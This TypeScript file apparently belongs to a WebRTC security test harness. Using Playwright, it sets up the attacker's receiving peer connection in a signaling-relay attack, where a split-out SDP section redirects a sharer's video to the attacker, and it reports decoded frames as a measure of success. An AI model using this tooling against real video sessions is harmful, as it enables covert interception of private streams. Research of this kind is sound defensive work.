import type { Page } from 'playwright-core';
import { parseSdp, type TransportParams, transportOf } from './sdp-edit.js';

/**
 * The attacker's own receiving end for a section split out of the bundle (attack 1 in
 * sdp-edit.ts): a plain RTCPeerConnection in the attacker's page that offers to receive video,
 * whose ICE credentials, certificate and candidates the relay writes into the guest's offer.
 */
export interface SplitReceiver {
  /** What the relay puts into the split-out section. */
  transport: TransportParams;
  candidates: string[];
  /** The mid of the receiver's own video section. */
  mid: string;
  /** Completes the receiver with the sharer's answer (already cut down to its section). */
  answer(sdp: string): Promise<void>;
  addCandidate(candidate: string): Promise<void>;
  report(): Promise<SplitReport>;
}

export interface SplitReport {
  framesDecoded: number;
  bytesReceived: number;
  iceState: string;
  dtlsState: string;
  events: string[];
}

interface ReceiverGlobal {
  __split: {
    pc: RTCPeerConnection;
    events: string[];
  };
}

export async function openSplitReceiver(page: Page): Promise<SplitReceiver> {
  const offer = await page.evaluate(async () => {
    const pc = new RTCPeerConnection({ iceServers: [] });
    const events: string[] = [];
    const note = (what: string) => events.push(`${Math.round(performance.now())} ${what}`);
    pc.addEventListener('iceconnectionstatechange', () => note(`ice ${pc.iceConnectionState}`));
    pc.addEventListener('connectionstatechange', () => note(`pc ${pc.connectionState}`));
    pc.addEventListener('track', () => note('track'));
    (globalThis as unknown as ReceiverGlobal).__split = { pc, events };
    pc.addTransceiver('video', { direction: 'recvonly' });
    await pc.setLocalDescription(await pc.createOffer());
    // Gathering on loopback takes well under a second; the candidates go into the guest's offer.
    await new Promise<void>((done) => {
      if (pc.iceGatheringState === 'complete') return done();
      pc.addEventListener('icegatheringstatechange', () => {
        if (pc.iceGatheringState === 'complete') done();
      });
      setTimeout(done, 5_000);
    });
    return pc.localDescription?.sdp ?? '';
  });
  const [section] = parseSdp(offer).sections;
  if (!section) throw new Error('the receiver offered nothing');
  const mid = section.find((line) => line.startsWith('a=mid:'))?.slice('a=mid:'.length) ?? '0';
  return {
    transport: transportOf(section),
    candidates: section.filter((line) => line.startsWith('a=candidate:')),
    mid,
    answer: (sdp) =>
      page.evaluate(async (answer) => {
        const { pc, events } = (globalThis as unknown as ReceiverGlobal).__split;
        await pc
          .setRemoteDescription({ type: 'answer', sdp: answer })
          .then(() => events.push('answer applied'))
          .catch((error: Error) => events.push(`answer refused: ${error.message}`));
      }, sdp),
    addCandidate: (candidate) =>
      page.evaluate(async (line) => {
        const { pc, events } = (globalThis as unknown as ReceiverGlobal).__split;
        await pc
          .addIceCandidate({ candidate: line, sdpMid: pc.getTransceivers()[0]?.mid ?? '0' })
          .catch((error: Error) => events.push(`candidate refused: ${error.message}`));
      }, candidate),
    report: () =>
      page.evaluate(async () => {
        const { pc, events } = (globalThis as unknown as ReceiverGlobal).__split;
        let framesDecoded = 0;
        let bytesReceived = 0;
        let dtlsState = 'none';
        for (const stat of (await pc.getStats()).values()) {
          if (stat.type === 'inbound-rtp' && stat.kind === 'video') {
            framesDecoded = Math.max(framesDecoded, stat.framesDecoded ?? 0);
            bytesReceived = Math.max(bytesReceived, stat.bytesReceived ?? 0);
          }
          if (stat.type === 'transport') dtlsState = stat.dtlsState ?? dtlsState;
        }
        return {
          framesDecoded,
          bytesReceived,
          iceState: pc.iceConnectionState,
          dtlsState,
          events: events.slice(),
        };
      }),
  };
}
